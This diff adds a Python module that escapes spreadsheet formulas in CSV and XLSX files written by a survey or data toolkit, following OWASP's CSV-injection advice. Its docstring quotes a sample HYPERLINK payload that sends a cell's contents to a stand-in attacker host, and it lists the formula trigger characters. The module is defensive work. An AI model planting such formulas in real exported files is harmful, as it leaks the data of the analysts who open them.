@@ -1,0 +1,91 @@
+"""Neutralising spreadsheet formulas in text the toolkit writes (CSV and XLSX).
+
+A respondent can type ``=HYPERLINK("http://evil/?"&A1, "click")`` into an open
+answer; written as is into a CSV or an XLSX cell, a spreadsheet evaluates it
+when the analyst opens the file ("CSV injection", OWASP). Following OWASP's
+recommendation, every text cell (and header) that begins with ``=``, ``+``,
+``-``, ``@``, a tab or a carriage return is written with a leading apostrophe,
+so the spreadsheet shows it as text. Text that is a plain number (``-5``,
+``+3.2``) cannot be evaluated as a formula and is left alone; numbers stored as
+numbers are never touched.
+
+Every writer of the toolkit calls :func:`escape_frame` / :func:`escape_text`
+unless the caller passes ``escape_formulas=False`` (trusted data).
+
+Reference: OWASP, "CSV Injection",
+https://owasp.org/www-community/attacks/CSV_Injection
+
+Example
+-------
+>>> escape_text('=HYPERLINK("http://x/?"&A1)')
+'\\'=HYPERLINK("http://x/?"&A1)'
+>>> escape_text("-5"), escape_text("-rm"), escape_text("ok")
+('-5', "'-rm", 'ok')
+>>> import pandas as pd
+>>> escape_frame(pd.DataFrame({"=a": ["@x", 3]}))
+   '=a
+0  '@x
+1    3
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+#: first characters that make a spreadsheet read a cell as a formula
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+
+
+def needs_escape(value: Any) -> bool:
+    """True for text a spreadsheet would evaluate as a formula."""
+    return (isinstance(value, str) and value.startswith(TRIGGERS)
+            and not _NUMBER.fullmatch(value))
+
+
+def escape_text(value: Any) -> Any:
+    """``value`` with a leading apostrophe when it is formula-leading text."""
+    return "'" + value if needs_escape(value) else value
+
+
+def escape_frame(frame):
+    """A copy of ``frame`` whose text cells, column names and index labels are escaped.
+
+    Only object and string columns are scanned (vectorised); a frame without
+    formula-leading text is returned as is (not copied).
+    """
+    import pandas as pd
+
+    out = frame
+    for col in frame.columns:
+        series = frame[col]
+        if not (series.dtype == object or isinstance(series.dtype, pd.StringDtype)
+                or isinstance(series.dtype, pd.CategoricalDtype)):
+            continue
+        if isinstance(series.dtype, pd.CategoricalDtype):
+            cats = series.cat.categories
+            if any(needs_escape(c) for c in cats):
+                if out is frame:
+                    out = frame.copy()
+                out[col] = series.cat.rename_categories([escape_text(c) for c in cats])
+            continue
+        text = series.astype("string")
+        mask = (text.str.match(r"[=+\-@\t\r]", na=False)
+                & ~text.str.fullmatch(_NUMBER.pattern, na=False)
+                & series.map(lambda v: isinstance(v, str)).astype(bool))
+        if mask.any():
+            if out is frame:
+                out = frame.copy()
+            fixed = series.astype(object).copy()
+            fixed[mask] = "'" + text[mask].astype(object)
+            out[col] = fixed
+    if any(needs_escape(c) for c in frame.columns):
+        if out is frame:
+            out = frame.copy()
+        out.columns = [escape_text(c) for c in frame.columns]
+    if frame.index.dtype == object and any(needs_escape(v) for v in frame.index):
+        if out is frame:
+            out = frame.copy()
+        out.index = [escape_text(v) for v in frame.index]
+    return out
